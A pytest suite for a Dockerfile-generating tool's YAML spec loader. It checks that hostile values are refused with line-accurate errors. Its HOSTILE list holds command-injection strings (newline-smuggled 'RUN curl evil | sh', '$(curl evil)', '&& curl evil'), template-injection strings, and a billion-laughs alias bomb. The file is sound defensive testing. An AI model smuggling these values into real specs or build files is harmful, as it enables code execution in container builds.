"""A hostile corpus: no value from team.yaml reaches a rendered file unvalidated.

Every value below must be refused when the spec is loaded, with an error naming the
file and line; none may get as far as rendering.
"""

import json

import pytest

from envkit.errors import SpecError
from envkit.spec import load_spec

HOSTILE = [
    "x\nRUN curl evil | sh",
    "x; curl evil",
    "x && curl evil",
    "$(curl evil)",
    "`curl evil`",
    "x \\\nRUN id",
    "{{ config }}",
    "{% raw %}x",
    'x" LABEL evil="1',
    "x" * 5000,
    "x\r\nid",
    "x\tid",
    "x#comment",
]

# (where the value goes, line it lands on) — each template puts the value on line 9 or 4
FIELDS = {
    "team": ("team: {v}", "images:\n  - name: a\n    framework: torch==2.5.*\n"),
    "image name": ("images:\n  - name: {v}\n    framework: torch==2.5.*", ""),
    "framework": ("images:\n  - name: a\n    framework: {v}", ""),
    "python": ("images:\n  - name: a\n    framework: torch==2.5.*\n    python: {v}", ""),
    "cuda": ("images:\n  - name: a\n    framework: torch==2.5.*\n    cuda: {v}", ""),
    "pip": ("images:\n  - name: a\n    framework: torch==2.5.*\n    pip: [{v}]", ""),
    "apt": ("images:\n  - name: a\n    framework: torch==2.5.*\n    apt: [{v}]", ""),
    "base image": ("images:\n  - name: a\n    framework: torch==2.5.*\n    base: {{image: {v}}}", ""),
    "suite": ("images:\n  - name: a\n    framework: torch==2.5.*\n    base: {{bootstrap: {{suite: {v}}}}}", ""),
    "mirror": ("images:\n  - name: a\n    framework: torch==2.5.*\n    base: {{bootstrap: {{mirror: {v}}}}}", ""),
    "registry": ("registry: {v}", "images:\n  - name: a\n    framework: torch==2.5.*\n"),
    "index_url": ("build:\n  index_url: {v}", "images:\n  - name: a\n    framework: torch==2.5.*\n"),
    "variant_index_url": ("build:\n  variant_index_url: {v}", "images:\n  - name: a\n    framework: torch==2.5.*\n"),
}

HEAD = 'version: 1\nfleet:\n  min_driver: "550.54.15"\n'


def spec_text(field: str, value: str) -> str:
    body, tail = FIELDS[field]
    team = "" if field == "team" else "team: t\n"
    return HEAD + team + body.format(v=json.dumps(value)) + "\n" + tail


@pytest.mark.parametrize("field", sorted(FIELDS))
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_value_is_refused_at_load(tmp_path, field, value):
    path = tmp_path / "team.yaml"
    text = spec_text(field, value)
    path.write_text(text)
    with pytest.raises(SpecError) as exc:
        load_spec(path)
    err = exc.value
    assert err.location is not None and err.location.path == str(path)
    value_line = next(i for i, line in enumerate(text.splitlines(), 1) if json.dumps(value)[:20] in line)
    assert err.location.line == value_line, str(err)
    # the message names the value (shortened when long), so the user can find it
    shown = value if len(value) <= 60 else value[:57] + "..."
    assert repr(shown) in str(err)


def test_billion_laughs_is_refused_fast(tmp_path):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        prev = chr(ord("a") + i - 1)
        cur = chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [" + ",".join([f"*{prev}"] * 9) + "]")
    path = tmp_path / "team.yaml"
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(SpecError, match="aliases are not allowed"):
        load_spec(path)


def test_huge_file_is_refused(tmp_path):
    path = tmp_path / "team.yaml"
    path.write_text("# " + "x" * (2 << 20) + "\n")
    with pytest.raises(SpecError, match="over the limit of 1048576 bytes"):
        load_spec(path)


def test_an_endless_file_is_read_no_further_than_the_limit():
    with pytest.raises(SpecError, match="over the limit"):
        load_spec("/dev/zero")


@pytest.mark.parametrize("raw, line, col, what", [
    (b'version: 1\nteam: "vi\x1b[0m"\n', 2, 10, "character U+001B is not allowed"),  # a pasted colour code
    (b"version: 1\nteam: a\x00b\n", 2, 8, "character U+0000 is not allowed"),
])
def test_a_character_yaml_forbids_is_named_with_its_line(tmp_path, raw, line, col, what):
    path = tmp_path / "team.yaml"
    path.write_bytes(raw)
    with pytest.raises(SpecError) as err:
        load_spec(path)
    assert what in err.value.message and (err.value.location.line, err.value.location.column) == (line, col)


@pytest.mark.parametrize("raw, line", [(b"version: 1\nteam: \xff\n", 2), ("team: x\n".encode("utf-16"), 1)])
def test_a_file_that_is_not_utf8_is_refused_with_its_line(tmp_path, raw, line):
    """Not silently decoded with replacement characters into a spec nobody wrote."""
    path = tmp_path / "team.yaml"
    path.write_bytes(raw)
    with pytest.raises(SpecError) as err:
        load_spec(path)
    assert err.value.message.startswith("not UTF-8 text") and err.value.location.line == line


@pytest.mark.parametrize("field, value", [("team", "vision\n"), ("python", "3.11\n"), ("min_driver", "550.54.15\n")])
def test_a_trailing_newline_is_not_part_of_a_valid_value(tmp_path, field, value):
    """`$` matches before a final newline: the grammars must match the whole value, or it reaches a Dockerfile."""
    import yaml
    doc = {"version": 1, "team": "vision", "fleet": {"min_driver": "550.54.15", "gpus": ["A100"]},
           "images": [{"name": "t", "framework": "torch==2.5.*"}]}
    if field == "python":
        doc["images"][0]["python"] = value
    elif field == "min_driver":
        doc["fleet"]["min_driver"] = value
    else:
        doc[field] = value
    path = tmp_path / "team.yaml"
    path.write_text(yaml.safe_dump(doc))
    with pytest.raises(SpecError, match="is not a valid"):
        load_spec(path)


def test_an_apt_package_with_a_newline_never_reaches_a_dockerfile(tmp_path):
    path = tmp_path / "team.yaml"
    path.write_text('version: 1\nteam: vision\nfleet: {min_driver: "550.54.15", gpus: [A100]}\n'
                    'images:\n  - {name: t, framework: "torch==2.5.*", apt: ["curl\\n"]}\n')
    with pytest.raises(SpecError) as err:
        load_spec(path)
    assert "is not a valid" in err.value.message and err.value.location.line == 5


def test_valid_pep508_marker_is_accepted_and_stays_out_of_run_lines(tmp_path):
    path = tmp_path / "team.yaml"
    path.write_text(spec_text("pip", "numpy>=2; python_version >= '3.10'"))
    spec = load_spec(path)
    assert list(spec.images[0].pip) == ["numpy>=2; python_version >= '3.10'"]


def test_a_duplicate_image_name_is_reported_at_its_second_use(tmp_path):
    path = tmp_path / "team.yaml"
    path.write_text('version: 1\nteam: vision\nfleet: {min_driver: "550.54.15", gpus: [A100]}\nimages:\n'
                    '  - {name: t, framework: "torch==2.5.*"}\n  - {name: t, framework: "torch==2.5.*"}\n')
    with pytest.raises(SpecError) as err:
        load_spec(path)
    assert err.value.message == "image name 't' is used twice (images 0 and 1)" and err.value.location.line == 6


def test_version_true_is_not_version_1(tmp_path):
    path = tmp_path / "team.yaml"
    path.write_text('version: true\nteam: vision\nfleet: {min_driver: "550.54.15", gpus: [A100]}\n'
                    'images: [{name: t, framework: "torch==2.5.*"}]\n')
    with pytest.raises(SpecError, match="unsupported spec version True"):
        load_spec(path)


@pytest.mark.parametrize("images, hint", [
    ('[{name: t, framework: "torch==2.5.*", python: 3.10}]', 'quote versions in YAML'),
    ('[{name: t, framework: "torch==2.5.*", pip: numpy}]', 'give a list'),
])
def test_a_type_error_gets_the_hint_for_its_kind(tmp_path, images, hint):
    path = tmp_path / "team.yaml"
    path.write_text(f'version: 1\nteam: vision\nfleet: {{min_driver: "550.54.15", gpus: [A100]}}\nimages: {images}\n')
    with pytest.raises(SpecError) as err:
        load_spec(path)
    assert err.value.hint.startswith(hint)
